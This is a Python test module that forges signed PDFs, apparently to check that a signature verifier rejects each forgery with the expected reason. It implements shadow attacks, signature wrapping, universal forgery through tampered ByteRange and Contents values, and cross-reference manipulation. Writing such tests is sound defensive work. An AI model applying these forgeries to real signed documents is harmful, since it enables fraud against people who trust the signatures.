"""What forgers do to signed files: each attack a function from sound bytes to forged ones.

`ATTACKS` touch a sealed file of Sohoa. Shadow attacks (Mainka, Mladenov, Rohlmann, "Shadow
Attacks", NDSS 2021) prepare a paper before it is signed, so each has two halves. Signature
wrapping, incremental saving and universal forgery follow Mladenov et al., "1 Trillion Dollar
Refund", CCS 2019.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields

from pipeline.signatures.verdicts import Reason

Change = Callable[[IncrementalPdfFileWriter], None]
Forge = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Attack:
    """One way to forge, and what must be said of it."""

    name: str
    forge: Forge
    reasons: frozenset[Reason] = frozenset()
    """One of these must be given; empty: any reason that invalidates."""
    unseen: bool = False
    """The bytes are a sound earlier or unsigned PDF: only records tell."""


# -- revisions that a stranger appends ---------------------------------------------------------


def appended(data: bytes, change: Change) -> bytes:
    """The file with a further revision."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page_of(writer: IncrementalPdfFileWriter) -> tuple[generic.Reference, generic.DictionaryObject]:
    """Page one."""
    reference = writer.find_page_for_modification(0)[0]
    return reference, reference.get_object()


def add_annotation(writer: IncrementalPdfFileWriter) -> None:
    reference, page = page_of(writer)
    note = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (9, 9, 300, 150))),
            pdf_name("/Contents"): generic.pdf_string("another amount"),
        }
    )
    annotations = page["/Annots"]
    annotations.append(writer.add_object(note))
    writer.update_container(annotations)
    writer.mark_update(reference)


def cover_content(writer: IncrementalPdfFileWriter) -> None:
    stream = generic.StreamObject(stream_data=b"q 1 1 1 rg 60 500 400 120 re f Q")
    writer.add_stream_to_page(0, writer.add_object(stream))


def swap_image(writer: IncrementalPdfFileWriter) -> None:
    """The page stays, the image under the same number is another."""
    _, page = page_of(writer)
    images = page["/Resources"]["/XObject"]
    reference = images.raw_get(next(iter(images)))
    image = reference.get_object()
    forged = generic.StreamObject(
        {key: image.raw_get(key) for key in image if key not in ("/Filter", "/Length")},
        stream_data=b"\x10" * 1600,
    )
    writer.objects[(reference.generation, reference.idnum)] = forged


def remove_field(writer: IncrementalPdfFileWriter) -> None:
    reference, page = page_of(writer)
    form = writer.root["/AcroForm"]
    form["/Fields"] = generic.ArrayObject()
    writer.update_container(form)
    writer.mark_update(writer.root.raw_get("/AcroForm"))
    page["/Annots"] = generic.ArrayObject()
    writer.mark_update(reference)


def move_stamp(writer: IncrementalPdfFileWriter) -> None:
    _, page = page_of(writer)
    widget = page["/Annots"][0]
    widget["/Rect"] = generic.ArrayObject(map(generic.NumberObject, (300, 20, 400, 60)))
    writer.update_container(widget)


def add_orphan(writer: IncrementalPdfFileWriter) -> None:
    writer.add_object(generic.StreamObject(stream_data=b"hidden"))


def add_empty_field(writer: IncrementalPdfFileWriter) -> None:
    fields.append_signature_field(
        writer, fields.SigFieldSpec("Cover", on_page=0, box=(50, 300, 500, 600))
    )


def add_unseen_field(writer: IncrementalPdfFileWriter) -> None:
    fields.append_signature_field(writer, fields.SigFieldSpec("Later"))


def drop_store(writer: IncrementalPdfFileWriter) -> None:
    del writer.root["/DSS"]
    writer.update_root()


def drop_page(writer: IncrementalPdfFileWriter) -> None:
    """An open page in the place of the scanned one."""
    reference, page = page_of(writer)
    page["/Contents"] = writer.add_object(generic.StreamObject(stream_data=b" "))
    writer.mark_update(reference)


def open_action(writer: IncrementalPdfFileWriter) -> None:
    """A script that runs when the file is opened."""
    writer.root["/OpenAction"] = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.beep()")}
    )
    writer.update_root()


def attach_file(writer: IncrementalPdfFileWriter) -> None:
    """Something to be carried along."""
    held = generic.StreamObject({pdf_name("/Type"): pdf_name("/EmbeddedFile")}, stream_data=b"MZ")
    spec = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Filespec"),
            pdf_name("/F"): generic.pdf_string("a.exe"),
            pdf_name("/EF"): generic.DictionaryObject({pdf_name("/F"): writer.add_object(held)}),
        }
    )
    names = generic.ArrayObject([generic.pdf_string("a.exe"), writer.add_object(spec)])
    writer.root["/Names"] = generic.DictionaryObject(
        {
            pdf_name("/EmbeddedFiles"): generic.DictionaryObject({pdf_name("/Names"): names}),
        }
    )
    writer.update_root()


# -- raw bytes ---------------------------------------------------------------------------------


def flipped(data: bytes, place: int) -> bytes:
    """One bit changed."""
    changed = bytearray(data)
    changed[place] ^= 1
    return bytes(changed)


def flip_image(data: bytes) -> bytes:
    return flipped(data, data.index(b"stream", data.index(b"/Subtype /Image")) + 40)


def flip_text(data: bytes) -> bytes:
    return flipped(data, data.index(b"/MediaBox") + 3)


_SIGNED_ATTRIBUTES = b"06092A864886F70D010903"
"""The first of them: contentType (RFC 5652, 11.1)."""


def _digit_of(data: bytes, place: int) -> bytes:
    return data[:place] + (b"0" if data[place : place + 1] != b"0" else b"7") + data[place + 1 :]


def flip_signature(data: bytes) -> bytes:
    """One digit of the signed attributes."""
    return _digit_of(data, data.index(_SIGNED_ATTRIBUTES, data.index(b"/Contents <")) + 60)


def flip_timestamp(data: bytes) -> bytes:
    return _digit_of(data, data.rindex(_SIGNED_ATTRIBUTES) + 60)


def revisions(data: bytes) -> list[int]:
    """Where each revision ends."""
    return [found.end() for found in re.finditer(rb"%%EOF\r?\n?", data)]


def cut_to(count: int) -> Forge:
    """Only the first revisions are left."""
    return lambda data: data[: revisions(data)[count - 1]]


def cut_short(data: bytes) -> bytes:
    return data[:-200]


def junk(data: bytes) -> bytes:
    return data + b"\n% said by nobody\n" * 10


def second_end(data: bytes) -> bytes:
    return data + b"%%EOF\n"


def body_without_table(data: bytes) -> bytes:
    """Incremental saving without cross-reference: some readers find the page all the same."""
    page = PdfFileReader(io.BytesIO(data)).root["/Pages"]["/Kids"].raw_get(0).idnum
    return data + (b"%d 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n" % page)


def body_with_trailer_only(data: bytes) -> bytes:
    reader = PdfFileReader(io.BytesIO(data))
    page = reader.root["/Pages"]["/Kids"].raw_get(0).idnum
    root = _root(reader)
    body = b"%d 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n" % page
    return data + body + b"trailer\n<</Root %d 0 R/Size 99>>\nstartxref\n0\n%%%%EOF\n" % root


def _start(reader: PdfFileReader) -> int:
    place = reader.last_startxref
    assert isinstance(place, int)
    return place


def _root(reader: PdfFileReader) -> int:
    return int(reader.root_ref.idnum)


def _table(data: bytes, entries: dict[int, int], trailer: bytes, root: int | None = None) -> bytes:
    """A cross-reference table and trailer behind `data`; entries: object number → offset."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    place = len(data)
    lines = [b"xref\n"]
    for number, offset in sorted(entries.items()):
        lines.append(b"%d 1\n%010d 00000 n \n" % (number, offset))
    if not entries:
        lines.append(b"0 0\n")
    lines.append(
        b"trailer\n<</Size %d/Root %d 0 R/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n"
        % (
            int(reader.trailer["/Size"]) + 9,
            root or _root(reader),
            _start(reader),
            trailer,
            place,
        )
    )
    return data + b"".join(lines)


def hybrid(data: bytes) -> bytes:
    """Another page, named by a cross-reference stream that only some readers look at."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    page = reader.root["/Pages"]["/Kids"].raw_get(0).idnum
    size = int(reader.trailer["/Size"])
    other = len(data)
    data += b"%d 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n" % page
    place = len(data)
    packed = zlib.compress(b"\1" + other.to_bytes(4, "big") + b"\0")
    data += (
        b"%d 0 obj\n<</Type/XRef/Size %d/Index[%d 1]/W[1 4 1]/Filter/FlateDecode/Length %d"
        b"/Root %d 0 R>>\nstream\n" % (size, size + 1, page, len(packed), _root(reader))
    )
    data += packed + b"\nendstream\nendobj\n"
    start, end = len(data), b"startxref\n%d\n%%%%EOF\n"
    data += b"xref\n0 0\ntrailer\n<</Size %d/Root %d 0 R/Prev %d/XRefStm %d>>\n" % (
        size + 1,
        _root(reader),
        _start(reader),
        place,
    )
    return data + end % start


def wrapped(data: bytes) -> bytes:
    """Signature wrapping: what was signed moves to the end, something else takes its place."""
    found = re.search(rb"/ByteRange ?\[ ?0 (\d+) (\d+) (\d+) ?\] *", data)
    assert found is not None
    first, second, length = (int(found.group(n)) for n in (1, 2, 3))
    signed = data[: second + length]
    evil = b"\n99 0 obj\n<</Type/Page>>\nendobj\n"
    moved = b"/ByteRange [0 %d %d %d]" % (first, len(signed) + len(evil), length)
    head = data[:second].replace(found.group(0), moved.ljust(len(found.group(0))))
    assert len(head) == second
    return head + data[second : second + length] + evil + data[second : second + length]


def range_forged(value: bytes) -> Forge:
    """Universal forgery: a byte range that some readers take for nothing to be checked."""

    def forge(data: bytes) -> bytes:
        found = re.search(rb"/ByteRange ?\[[^]]*\] *", data)
        assert found is not None
        return data.replace(found.group(0), value.ljust(len(found.group(0))), 1)

    return forge


def contents_forged(value: bytes) -> Forge:
    """Universal forgery: a signature value that some readers take for none."""

    def forge(data: bytes) -> bytes:
        start = data.index(b"/Contents <")
        end = data.index(b">", start) + 1
        return data[:start] + value.ljust(end - start) + data[end:]

    return forge


def rewritten(data: bytes) -> bytes:
    """As any other program saves it."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out)
    return out.getvalue()


def flattened(data: bytes) -> bytes:
    """Without signature and form, the stamp is ink: looks signed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        stamp = page.obj.Annots[0].AP.N
        page.Resources.XObject.Stamp = stamp
        x0, y0 = (float(v) for v in page.obj.Annots[0].Rect[:2])
        page.contents_add(f"q 1 0 0 1 {x0} {y0} cm /Stamp Do Q".encode())
        del page.obj.Annots
        for key in ("/AcroForm", "/DSS"):
            if key in pdf.Root:
                del pdf.Root[key]
        pdf.save(out)
    return out.getvalue()


def nameless(data: bytes) -> bytes:
    """Without signature and without transfer note: nobody's file."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(flattened(data))) as pdf:
        del pdf.Root.Metadata
        pdf.save(out)
    return out.getvalue()


def _update(change: Change) -> Forge:
    return lambda data: appended(data, change)


_CHANGED = frozenset({Reason.MODIFIED_AFTER_SIGNING})
_TAIL = frozenset({Reason.UNSIGNED_TAIL})
_BROKEN = frozenset({Reason.INTEGRITY_BROKEN})

ATTACKS = (
    Attack("flip_image", flip_image, _BROKEN),
    Attack("flip_text", flip_text),
    Attack("flip_signature", flip_signature),
    Attack("flip_timestamp", flip_timestamp),
    Attack("annotation", _update(add_annotation), _CHANGED),
    Attack("overlay", _update(cover_content), _CHANGED),
    Attack("object_swap", _update(swap_image), _CHANGED),
    Attack("page_emptied", _update(drop_page), _CHANGED),
    Attack("script", _update(open_action), _CHANGED),
    Attack("attachment", _update(attach_file), _CHANGED),
    Attack("stamp_moved", _update(move_stamp), _CHANGED),
    Attack("empty_field", _update(add_empty_field), _CHANGED),
    Attack("unseen_field", _update(add_unseen_field), _TAIL),
    Attack("orphan", _update(add_orphan), _TAIL),
    Attack("store_removed", _update(drop_store)),
    Attack("field_removed", _update(remove_field), frozenset({Reason.SIGNATURE_REMOVED})),
    Attack("junk", junk),
    Attack("second_end", second_end),
    Attack("body_without_table", body_without_table),
    Attack("body_with_trailer_only", body_with_trailer_only),
    Attack("hybrid", hybrid),
    Attack("cut_short", cut_short),
    Attack("wrapped", wrapped),
    Attack("range_negative", range_forged(b"/ByteRange [0 -1 5 9]")),
    Attack("range_empty", range_forged(b"/ByteRange []")),
    Attack("range_null", range_forged(b"/ByteRange null")),
    Attack("range_missing", range_forged(b"/ByteRangx []")),
    Attack("contents_zero", contents_forged(b"/Contents <00>")),
    Attack("contents_null", contents_forged(b"/Contents null")),
    Attack("contents_missing", contents_forged(b" ")),
    Attack("rewritten", rewritten),
    Attack("cut_to_signature", cut_to(2), unseen=True),
    Attack("cut_to_paper", cut_to(1), unseen=True),
    Attack("flattened", flattened, unseen=True),
    Attack("nameless", nameless, unseen=True),
)
"""Over a file of Sohoa at B-LTA: paper, signature, seal, each a revision."""


# -- shadows -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Shadow:
    """Prepared before signing, played out after it."""

    name: str
    prepare: Forge
    forge: Forge
    sealable: bool = True
    """False: what was prepared is seen as soon as anything is appended."""


def _prepared(change: Callable[[pikepdf.Pdf], None]) -> Forge:
    def prepare(data: bytes) -> bytes:
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(data)) as pdf:
            change(pdf)
            pdf.save(out)
        return out.getvalue()

    return prepare


def _hide(pdf: pikepdf.Pdf) -> None:
    """A white picture lies over words that nobody sees when signing."""
    page = pdf.pages[0]
    cover = pdf.make_stream(
        b"\xff",
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=1,
        Height=1,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
    )
    page.Resources.XObject.Cover = cover
    page.contents_add(b"q 0 0 0 rg 90 90 99 9 re f 200 0 0 50 80 80 cm /Cover Do Q")


def _cover_of(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    _, page = page_of(writer)
    reference = page["/Resources"]["/XObject"].raw_get("/Cover")
    assert isinstance(reference, generic.IndirectObject)
    return reference


def _uncover(writer: IncrementalPdfFileWriter) -> None:
    reference = _cover_of(writer)
    clear = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 1, 1))),
        },
        stream_data=b" ",
    )
    writer.objects[(reference.generation, reference.idnum)] = clear


def _free(data: bytes) -> bytes:
    """The cover is declared to be free: one line of a table."""
    number = _cover_of(IncrementalPdfFileWriter(io.BytesIO(data), strict=False)).idnum
    line = b"%d 1\n%010d 00000 n \n" % (number, 0)
    forged = _table(data, {number: 0}, b"")
    return forged.replace(line, b"%d 1\n0000000000 00001 f \n" % number)


def _field(pdf: pikepdf.Pdf) -> None:
    """A text field shows one amount, and may be filled."""
    page = pdf.pages[0]
    shown = pdf.make_stream(
        b"BT /F1 12 Tf 2 4 Td (100) Tj ET",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 90, 20]),
    )
    box = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=pikepdf.String("amount"),
            V=pikepdf.String("100"),
            Rect=Array([90, 90, 180, 110]),
            F=4,
            AP=Dictionary(N=shown),
        )
    )
    page.obj.Annots = pdf.make_indirect(Array([box]))
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array([box])))


def _amount(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    _, page = page_of(writer)
    held = page["/Annots"][0]
    assert isinstance(held, generic.DictionaryObject)
    return held


def _show_other(writer: IncrementalPdfFileWriter) -> None:
    """The value stays, what is shown changes."""
    shown = _amount(writer)["/AP"].raw_get("/N")
    held = shown.get_object()
    forged = generic.StreamObject(
        {key: held.raw_get(key) for key in held if key not in ("/Filter", "/Length")},
        stream_data=b"BT /F1 12 Tf 2 4 Td (900) Tj ET",
    )
    writer.objects[(shown.generation, shown.idnum)] = forged


def _fill_other(writer: IncrementalPdfFileWriter) -> None:
    held = _amount(writer)
    held["/V"] = generic.pdf_string("900")
    writer.update_container(held)


def _shared_form(pdf: pikepdf.Pdf) -> None:
    """Two documents with one form: the signature will be in either."""
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=pdf.make_indirect(Array([]))))
    _second_page(pdf)


def _second_page(pdf: pikepdf.Pdf) -> None:
    """A second document lies in the file; nothing refers to it but a note that no reader reads."""
    page = Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Resources=Dictionary())
    held = pdf.make_indirect(page)
    tree = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Kids=Array([held])))
    held.Parent = tree
    held.Contents = pdf.make_stream(b"0 0 0 rg 90 90 300 300 re f")
    catalog = Dictionary({str(key): pdf.Root[str(key)] for key in pdf.Root})
    catalog.Pages = tree
    pdf.Root.PieceInfo = Dictionary(Other=pdf.make_indirect(catalog))


def _switch_catalog(data: bytes) -> bytes:
    """A trailer of one line: the other document is the document now."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    other = reader.root["/PieceInfo"].raw_get("/Other").idnum
    return _table(data, {}, b"", root=other)


_HIDDEN = b"<</Type/Page/MediaBox[0 0 595 842]/Resources<<>>/Parent %d 0 R>>"


def _twin_page(data: bytes) -> bytes:
    """The page's number is given twice; the second one is named by no table yet."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    pages = int(reader.root.raw_get("/Pages").idnum)
    page = int(reader.root["/Pages"]["/Kids"].raw_get(0).idnum)
    twin = b"%d 0 obj\n" % page + _HIDDEN % pages + b"\nendobj\n"
    place = _start(reader)
    # the twin stands in front of a table that is the same as before
    end = b"startxref\n%d\n%%%%EOF\n" % place
    return data + twin + end


def _switch_page(data: bytes) -> bytes:
    """One line of a table that points back into what was signed."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    page = reader.root["/Pages"]["/Kids"].raw_get(0).idnum
    body = b"%d 0 obj\n<</Type/Page/MediaBox[0 0 595 842]" % int(page)
    return _table(data, {page: data.index(body)}, b"")


SHADOWS = (
    Shadow("hide_replaced", _prepared(_hide), _update(_uncover)),
    Shadow("hide_freed", _prepared(_hide), _free),
    Shadow("replace_shown", _prepared(_field), _update(_show_other)),
    Shadow("replace_filled", _prepared(_field), _update(_fill_other)),
    Shadow("hide_and_replace_catalog", _prepared(_second_page), _switch_catalog),
    Shadow(
        "hide_and_replace_both_signed", _prepared(_shared_form), _switch_catalog, sealable=False
    ),
    Shadow("hide_and_replace_page", _twin_page, _switch_page),
)


# -- sound files of unusual build ---------------------------------------------------------------


def as_hybrid(data: bytes) -> bytes:
    """The same paper with a hybrid cross-reference, as office programs write it."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    size = int(reader.trailer["/Size"])
    info = len(data)
    data += b"%d 0 obj\n<</Producer(Office)>>\nendobj\n" % size
    place = len(data)
    packed = zlib.compress(b"\1" + info.to_bytes(4, "big") + b"\0")
    data += (
        b"%d 0 obj\n<</Type/XRef/Size %d/Index[%d 1]/W[1 4 1]/Filter/FlateDecode/Length %d"
        b"/Root %d 0 R>>\nstream\n" % (size + 1, size + 2, size, len(packed), _root(reader))
    )
    data += packed + b"\nendstream\nendobj\n"
    start = len(data)
    data += b"xref\n0 0\ntrailer\n<</Size %d/Root %d 0 R/Prev %d/XRefStm %d>>\n" % (
        size + 2,
        _root(reader),
        _start(reader),
        place,
    )
    return data + b"startxref\n%d\n%%%%EOF\n" % start
